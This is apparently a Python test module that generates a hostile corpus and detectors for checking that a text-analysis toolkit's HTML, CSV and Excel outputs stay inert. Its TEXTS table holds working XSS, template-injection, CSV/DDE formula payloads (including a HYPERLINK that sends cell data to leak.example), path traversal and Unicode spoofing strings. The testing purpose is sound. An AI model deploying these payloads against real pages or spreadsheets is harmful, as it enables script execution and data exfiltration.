"""A hostile corpus: text that would run, load, break out, count or hide, wherever somebody shows it unguarded.

`analysis()` gives tables in which every text that comes from an article is hostile; `write(folder)` gives files to
read. What a sink made of it is looked at by `html_faults`, `csv_faults` and `workbook_faults`: lists of what got
through, empty where it all stayed text. A browser that runs any of it has PWNED as the title of its page, or asks
LEAK for something.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any

from bs4 import BeautifulSoup

from toolkit import network, tables
from toolkit.analysis import Analysis

RUN, LEAK = "document.title='PWNED'", "leak.example"
PWNED = "PWNED"
LONG = "Donaudampfschifffahrts" * 120

# What each is an attack on, and the text.
TEXTS = {
    "script": f"<script>{RUN}</script>",
    "handler": f'<img src=x onerror="{RUN}">',
    "svg handler": f"<svg/onload={RUN}>",
    "quoted attribute": f'"><img src=x onerror="{RUN}"><a title="',
    "single-quoted attribute": f"' autofocus onfocus='{RUN}' x='",
    "every end": f"</td></table></textarea></title></style></script></svg><script>{RUN}</script>",
    "comment": f"--><script>{RUN}</script><!-- ]]>",
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "meta": f'<meta http-equiv="refresh" content="0;url=https://{LEAK}/m"><base href="https://{LEAK}/">',
    "style": f"<style>*{{display:none}} body{{background:url(https://{LEAK}/s)}}</style>",
    "link": f'<link rel=stylesheet href="https://{LEAK}/l"><a href="javascript:{RUN}">read on</a>',
    "form": f'<form action="https://{LEAK}/f"><button autofocus>go</button></form>',
    "Markdown link": f"[read on](javascript:{RUN}) ![seen](https://{LEAK}/p.png)",
    "Markdown": f"# Loud **bold** _it_ `code` | a | b |\n\n<b>x</b>\n\n- one\n\n    {RUN}",
    "mathematics": r"costs $5 and $6 \(x\) \[\href{javascript:alert(1)}{y}\] $$\unicode{x3c}$$",
    "template": "{{ 7*7 }} {% for x in [1] %} ${7*7} #{7*7} <%= 7*7 %> {0.__class__}",
    "formula": '=HYPERLINK("https://leak.example/?"&A1,"more")',
    "formula of a program": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "separators": '";=1+1;"\t=1+1',
    "full width": "＝1＋1",
    "overlong": LONG,
    "overlong markup": "<b>" * 200 + "x",
    "direction": "invoice\u202egnp.exe\u202c \u2066hidden\u2069 \u200fback",
    "zero width": "Ad\u200bmin\u200d\ufeff \u00adsoft \u2060joined",
    "marks": "Z" + "\u0301\u0489\u035c" * 40 + "algo",
    "controls": "bell \x07 escape \x1b[31mred\x1b[0m nul \x00 back\x08",
    "line ends": "one\u2028two\u2029three\x0bfour\x85five\r\nsix",
    "marks of evidence": f"⟦<script>{RUN}</script>⟧ ⟧⟦",
    "ampersands": "&lt;script&gt; &amp;lt; &#60;b&#62; &NotAnEntity;",
    "path": f"../../../etc/passwd%00<script>{RUN}</script>.txt",
}
HOSTILE = tuple(TEXTS.values())


def analysis() -> Analysis:
    """Tables as an analysis gives them: each hostile text is a headline, outlet, file, name, role, cue and content.

    Actor k speaks in document k, of actor k + 1; all tables keep their contracts, offsets included.
    """
    found: dict[str, list[dict[str, Any]]] = {
        name: [] for name in ("documents", "mentions", "actors", "quotes", "problems")
    }
    for k, hostile in enumerate(HOSTILE):
        _add(found, k, hostile)
    made = {name: tables.table(name, rows) for name, rows in found.items()}
    known = (made["quotes"], made["mentions"], made["actors"], made["documents"])
    edges = network.quote_edges(*known, relation=network.QUOTE_RELATIONS)
    return Analysis(**made, edges=edges)


def _add(found: dict[str, list[dict[str, Any]]], k: int, hostile: str) -> None:
    """The rows of document k: two statements of actor k, a direct and an indirect one."""
    other, doc_id = HOSTILE[(k + 1) % len(HOSTILE)], f"d{k}"
    body = f"{hostile}\n\n"
    for kind, opening, closing in (("direct", "“", "”"), ("indirect", "that ", "")):
        low = len(body)
        body += f"{hostile} said to {other}, "
        start = len(body) + len(opening)
        within = start + len(f"{hostile} is what I think of ")
        body += f"{opening}{hostile} is what I think of {other}{closing}. "
        end = within + len(other)
        place = {"doc_id": doc_id, "sentence_start": low, "sentence_end": len(body) - 1, "confidence": 0.9}
        addressed, second = low + len(f"{hostile} said to "), (k + 1) % len(HOSTILE)
        for at, name, actor in ((low, hostile, k), (addressed, other, second), (within, other, second)):
            row = {"mention_id": f"{doc_id}-{at}", "start": at, "end": at + len(name), "text": name}
            found["mentions"].append(place | row | {"label": "PERSON", "actor_id": f"a{actor}"})
        row = {"quote_id": f"{doc_id}-{kind}", "start": start, "end": end, "spans": [[start, end]]}
        row |= {"text": body[start:end], "n_words": tables.count_words(body[start:end]), "kind": kind}
        row |= {"cue": hostile, "speaker": hostile, "actor_id": f"a{k}", "speaker_mention": f"{doc_id}-{low}"}
        row |= {"speaker_start": low, "speaker_end": low + len(hostile), "reported_via": hostile}
        row |= {"addressee": other, "addressee_id": f"a{second}", "about": [f"a{second}"]}
        row |= {"speaker_reason": hostile}
        found["quotes"].append(place | row)
    document = {"doc_id": doc_id, "text": body, "title": hostile, "outlet": hostile, "section": hostile}
    document |= {"published": f"2020-01-{k % 28 + 1:02}", "authors": [hostile], "url": f"javascript:{RUN}"}
    document |= {"language": "en", "origin": f"{hostile}.txt", "n_words": tables.count_words(body)}
    changed = {"step": "clean", "what": hostile, "count": 1, "detail": hostile}
    found["documents"].append(document | {"cleaning": [changed]})
    actor = {"actor_id": f"a{k}", "name": hostile, "kind": ("person", "state", "organisation")[k % 3]}
    actor |= {"role": hostile, "affiliation": hostile, "mentions": 6, "documents": 2, "variants": [hostile]}
    found["actors"].append(actor)
    found["problems"].append(tables.problem(doc_id, "read", "odd", hostile, 0, 1))


def write(folder: Path) -> Path:
    """The folder with hostile articles in English: one JSON-lines file, and text files with hostile names.

    Names that speak are plain ("Lena Orlo") in half of the articles and stand beside hostile text in the others.
    """
    folder.mkdir(parents=True, exist_ok=True)
    lines = []
    for k, hostile in enumerate(HOSTILE):
        name = f"Lena Orlo {hostile}" if k % 2 else "Lena Orlo"
        body = (
            f"{name} said on Monday that Russia had closed the port. “We will not accept {hostile} from Moscow,” "
            f"Orlo told reporters in London.\n\nThe Russian Foreign Ministry replied that “{hostile}” was a lie. "
            "President Tom Hale of Finland called the talks a war of words and said they must go on."
        )
        lines.append(
            {"title": hostile, "outlet": hostile, "author": hostile, "section": hostile, "text": body}
        )
        lines[-1] |= {"published": f"2020-01-{k % 28 + 1:02}", "url": f"javascript:{RUN}"}
    written = "".join(json.dumps(line) + "\n" for line in lines)
    (folder / "articles.jsonl").write_text(written, encoding="utf-8")
    for name in (f"<img src=x onerror={RUN}>.txt", "=1+1.txt", "{{ 7*7 }} & 'co'.txt", "\u202etxt.exe.txt"):
        (folder / name).write_text(
            f"Port talks\n\nThe minister said that {name} had failed.", encoding="utf-8"
        )
    return folder


def html_faults(html: str, scripts: tuple[str, ...] = ()) -> list[str]:
    """What in a page is more than text: elements and attributes that only hostile text would bring.

    `scripts` are the texts of the scripts that the page may have, beside data (type application/json). Frames are
    looked into.
    """
    soup = BeautifulSoup(html, "html.parser")
    faults = []
    for tag in soup.find_all(True):
        shown = str(tag)[:120]
        if tag.name == "script" and tag.get("type") != "application/json" and tag.get_text() not in scripts:
            faults.append(f"script: {shown}")
        if tag.name == "iframe":
            faults += html_faults(tag.get("srcdoc", ""), scripts)
            faults += [f"frame: {shown}"] if "sandbox" not in tag.attrs or tag.get("src") else []
            faults += [f"frame: {shown}"] if "allow-same-origin" in tag.get("sandbox", "") else []
        if tag.name in ("base", "form", "link", "object", "embed", "marquee"):
            faults.append(f"element: {shown}")
        if tag.name == "meta" and tag.get("http-equiv", "").lower() == "refresh":
            faults.append(f"meta: {shown}")
        if tag.name == "style" and (LEAK in tag.get_text() or "display:none} body" in tag.get_text()):
            faults.append(f"style: {shown}")
        for name, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value or ""
            if name.startswith("on") or re.match(r"\s*(javascript|vbscript):", value, re.I):
                faults.append(f"attribute {name}: {shown}")
            if name in ("src", "srcset", "poster", "background") and not value.startswith("data:image/"):
                faults.append(f"loads {value[:60]}: {shown}")
    return faults


def csv_faults(path: Path) -> list[str]:
    """Cells of a CSV file that a spreadsheet program would run, whichever separator it takes."""
    text = path.read_text(encoding="utf-8-sig")
    formula = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
    faults = []
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            faults += [
                f"{separator!r}: {cell[:60]!r}"
                for cell in row
                if cell.lstrip("\t\r\n").startswith(formula)
                and not re.fullmatch(r"[-+]?[\d.]+(e[-+]\d+)?", cell)
            ]
    return faults


def workbook_faults(path: Path) -> list[str]:
    """Formulas and links in the parts of an Excel workbook."""
    faults = []
    with zipfile.ZipFile(path) as parts:
        for name in parts.namelist():
            content = parts.read(name).decode("utf-8", "replace")
            if name.startswith("xl/worksheets/") and re.search(r"<f[ >]", content):
                faults.append(f"{name}: a formula")
            if name.endswith(".rels") and 'TargetMode="External"' in content:
                faults.append(f"{name}: a link to elsewhere")
    return faults
